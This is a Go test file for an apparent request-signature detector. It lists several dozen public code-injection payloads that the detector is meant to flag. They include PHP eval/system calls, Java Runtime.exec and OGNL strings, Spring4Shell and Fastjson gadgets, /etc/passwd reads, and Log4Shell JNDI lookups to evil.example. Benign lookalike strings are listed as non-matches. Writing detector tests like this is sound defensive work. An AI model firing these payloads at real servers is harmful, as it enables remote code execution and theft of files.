package signature_test

import "testing"

// Public payloads: OWASP's code injection page, PHP exploit write-ups
// (PHP-CGI, Drupalgeddon, ThinkPHP), the Log4Shell advisories, Struts
// and Spring4Shell CVE requests, and Node.js injection examples.
var codeAttacks = []familyCase{
	{"q", "system('id')", 0.99},
	{"q", "system('cat /etc/passwd');", 0.99},
	{"q", "(system)(ls);", 0.99},
	{"q", "('sys'.'tem')('id');", 0.99},
	{"q", "phpinfo();", 0.99},
	{"q", "phpinfo()", 0.99},
	{"q", "eval($_POST[x])", 0.99},
	{"q", "${@print(\"RCE\")}", 0.99},
	{"q", "{${sleep(3)}}", 0.99},
	{"q", "assert('system(\"id\")');", 0.99},
	{"q", "$_GET[a]($_GET[b]);", 0.99},
	{"q", "x';system('id');//", 0.99},
	{"q", "1'.exec('id').'", 0.99},
	{"q", "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));", 0.99},
	{"q", "file_get_contents('/etc/passwd');", 0.99},
	{"q", "<?php echo shell_exec($_GET['c']); ?>", 0.99},
	{"q", "call_user_func('system','id');", 0.99},
	{"q", "@assert($_REQUEST['x']);", 0.99},
	{"q", "print_r(scandir('/'));", 0.99},
	{"q", "${T(java.lang.Runtime).getRuntime().exec('id')}", 0.99},
	{"q", "%{@java.lang.Runtime@getRuntime().exec('id')}", 0.99},
	{"q", "new java.lang.ProcessBuilder(\"id\").start()", 0.99},
	{"q", "Class.forName(\"java.lang.Runtime\")", 0.99},
	{"q", "java.lang.System.getenv()", 0.99},
	{"q", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", 0.99},
	{"q", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example/a\"}", 0.99},
	{"q", "require('child_process').exec('id')", 0.99},
	{"q", "__import__('os').system('id')", 0.99},
	{"q", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')", 0.99},
	{"header:X-Filter", "system('id');", 0.99},
	{"q", "system(id);", 0.99},
	{"q", "$_SERVER", 0.99},
	{"q", "expect://id", 0.99},
	{"q", "phar://uploads/avatar.jpg/x", 0.99},
	{"q", `{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`, 0.99},
	{"q", "java.io.FileOutputStream", 0.99},
	{"q", "org.apache.commons.collections.functors.InvokerTransformer", 0.99},
	{"header:Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", 0.99},
	{"header:X-Api-Version", "${jndi:ldap://evil.example/a}", 0.99},
	{"header:Accept", "${jndi:ldap://evil.example/a}", 0.99},
	{"header:X-Data", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", 0.99},
	{"header:Authorization", "Bearer rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", 0.99},
}

// Prose about code, stack traces, maths and real header values.
var codeBenign = []familyCase{
	{"q", "PHP's system() function runs a command", 0},
	{"q", "the system ('legacy') is slow", 0},
	{"q", "please copy('this') into the form", 0},
	{"q", "use system('ls') with care, it runs a shell", 0},
	{"q", "Let $f(x) = x^2$ and $g(y)$ be", 0},
	{"q", "java.lang.String is immutable", 0},
	{"q", "at java.lang.Runtime.exec(Runtime.java:450)", 0},
	{"q", "java.io.IOException: Broken pipe\n\tat java.net.SocketOutputStream.write(SocketOutputStream.java:153)", 0},
	{"q", "I drank a new java. Then I left", 0},
	{"q", "$('#menu').toggle()", 0},
	{"q", "the system(s) you run", 0},
	{"q", "read $_GET before you trust it", 0},
	{"q", "base64_decode is slow", 0},
	{"q", "obj.system('x'); $o->exec('y')", 0},
	{"header:Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", 0},
	{"header:X-Request-Id", "3f2b9c1e-7a4d-4e2b-9f1a-2c3d4e5f6a7b", 0},
	{"ua", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 0},
	{"header:X-Forwarded-Host", "shop.example:8443", 0},
}

func TestCode(t *testing.T) { checkFamily(t, "code", codeAttacks, codeBenign, 0.9) }
